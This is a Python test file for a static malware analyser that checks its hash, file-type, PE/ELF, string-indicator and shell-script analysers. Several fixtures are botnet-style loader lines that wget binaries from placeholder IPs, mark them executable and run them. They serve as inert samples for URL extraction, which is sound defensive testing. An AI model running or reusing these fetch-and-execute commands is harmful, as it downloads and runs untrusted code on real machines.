# SPDX-License-Identifier: Apache-2.0
"""Each static analyser says what is true of benign bodies, and says so when it could not look."""

from __future__ import annotations

import hashlib
import re
import struct
from pathlib import Path

import msgspec
import pytest
import setuptools

from mead.analysis.analyser import Artifact, Report
from mead.analysis.registry import ANALYSERS
from mead.analysis.settings import AnalysisSettings

LAUNCHER = Path(setuptools.__file__).parent / "cli-32.exe"


def _look(name: str, data: bytes, settings: AnalysisSettings) -> Report:
    report = ANALYSERS.load(name).analyse(Artifact.of(data), settings)
    assert report is not None
    return report


def _values(report: Report) -> dict[str, str | None]:
    return {finding.claim: finding.value for finding in report.findings}


def test_hashes(settings: AnalysisSettings, noise: bytes) -> None:
    values = _values(_look("hashes", noise, settings))
    assert values["hash.md5"] == hashlib.md5(noise).hexdigest()
    assert values["hash.sha256"] == hashlib.sha256(noise).hexdigest()
    assert re.fullmatch(r"\d+:\S+:\S+", values["hash.ssdeep"] or "")
    assert (values["hash.tlsh"] or "").startswith("T1")


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"\x7fELF\x02\x01\x01", "elf"), (b"PK\x03\x04....", "zip"), (b"#!/bin/sh\n", "script"),
        (b"plain text\n", "text"),
        (b"<html><body>", "html"), (bytes(range(256)), "data"), (b"{\\rtf1 }", "rtf"), (b"", "data"),
        (b"\0" * 257 + b"ustar", "tar"), (b"MZ" + b"\0" * 100, "dos"),
    ],
)  # fmt: skip
def test_type_by_our_own_table(data: bytes, kind: str, settings: AnalysisSettings) -> None:
    assert _values(_look("filetype", data, settings))["type"] == kind


def test_type_names_every_source(program: bytes, settings: AnalysisSettings) -> None:
    values = _values(_look("filetype", program, settings))
    assert values["type"] == "pe"
    assert "PE32" in (values["type.libmagic"] or "")
    assert values["type.mime"]


def test_pe_facts(settings: AnalysisSettings) -> None:
    data = LAUNCHER.read_bytes()
    report = _look("pe", data + b"appended" * 10, settings)
    values = _values(report)
    assert values["pe.architecture"] == "i386"
    assert values["pe.subsystem"] == "windows_cui"
    assert re.fullmatch(r"[0-9a-f]{32}", values["hash.imphash"] or "")
    assert values["overlay"] == "80 bytes"
    imports = next(finding for finding in report.findings if finding.claim == "pe.imports")
    assert any(name.startswith("KERNEL32.dll:") for name in imports.evidence)


def test_pe_damaged_headers_fail_and_other_files_are_none_of_its_business(settings: AnalysisSettings) -> None:
    broken = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\xff" * 10
    assert _look("pe", broken, settings).verdict == "failed"
    assert ANALYSERS.load("pe").analyse(Artifact.of(b"text"), settings) is None
    assert ANALYSERS.load("elf").analyse(Artifact.of(b"text"), settings) is None


def test_elf_facts(settings: AnalysisSettings) -> None:
    report = _look("elf", Path("/bin/true").resolve().read_bytes(), settings)
    values = _values(report)
    assert values["elf.linked"] == "dynamic"
    assert "64-bit little-endian" in (values["elf.architecture"] or "")
    assert re.fullmatch(r"t1[0-9a-f]{70}", values["hash.telfhash"] or "")


def test_elf_overlay_and_damage(settings: AnalysisSettings) -> None:
    data = Path("/bin/true").resolve().read_bytes()
    assert "overlay" in _values(_look("elf", data + b"x" * 3000, settings))
    assert _look("elf", b"\x7fELF" + b"\xff" * 40, settings).verdict in {"failed", "done"}


def test_strings_and_indicators(settings: AnalysisSettings) -> None:
    text = b"\0\0/bin/busybox wget http://198.51.100.7:8080/x.sh\0" + "http://wide.example.com/a".encode(
        "utf-16-le"
    )
    report = _look("strings", text, settings)
    found = {(i.indicator_kind, i.indicator) for i in report.indicators}
    assert {
        ("url", "http://198.51.100.7:8080/x.sh"),
        ("ip", "198.51.100.7"),
        ("url", "http://wide.example.com/a"),
    } <= found
    assert any(finding.claim == "strings.telling" for finding in report.findings)


def test_strings_say_when_they_stop(settings: AnalysisSettings) -> None:
    few = msgspec.structs.replace(settings, max_indicators=5, max_strings_bytes=4000)
    data = b"".join(b"http://host%d.example.com/ \n" % n for n in range(500))
    report = _look("strings", data, few)
    assert len(report.indicators) == 5
    assert {hit.limit for hit in report.limits} == {"strings.bytes", "strings.indicators"}


LOADER = b"""#!/bin/sh
A=192.0.2.1
for x in arm mips; do
  wget http://$A/bins/$x -O $x; chmod +x $x; ./$x telnet
done
echo -ne "\\x7fELF-benign-marker" > /tmp/d
[ "$(uname -m)" = armv7l ] && curl http://192.0.2.2/only-arm
"""


def test_a_script_gives_the_urls_that_it_builds(settings: AnalysisSettings) -> None:
    report = _look("scripts", LOADER, settings)
    urls = {indicator.indicator for indicator in report.indicators}
    assert urls == {"http://192.0.2.1/bins/arm", "http://192.0.2.1/bins/mips", "http://192.0.2.2/only-arm"}
    assert {child.name: child.data for child in report.children}["/tmp/d"] == b"\x7fELF-benign-marker"
    assert any(finding.claim == "script.starts" for finding in report.findings)


@pytest.mark.parametrize(
    "data", [b"<html>wget x; chmod y</html>", b"just a letter\n", b"\x7fELF wget chmod\0", b""]
)
def test_what_is_no_script_is_not_run(data: bytes, settings: AnalysisSettings) -> None:
    assert ANALYSERS.load("scripts").analyse(Artifact.of(data), settings) is None


def test_a_script_without_a_first_line_is_known_by_its_commands(settings: AnalysisSettings) -> None:
    report = _look("scripts", b"cd /tmp || cd /var; wget http://192.0.2.3/a; chmod 777 a; ./a", settings)
    assert [indicator.indicator for indicator in report.indicators] == ["http://192.0.2.3/a"]


def test_an_endless_script_ends(settings: AnalysisSettings) -> None:
    report = _look("scripts", b"#!/bin/sh\nwhile true; do wget http://192.0.2.4/x; done\n", settings)
    assert report.limits
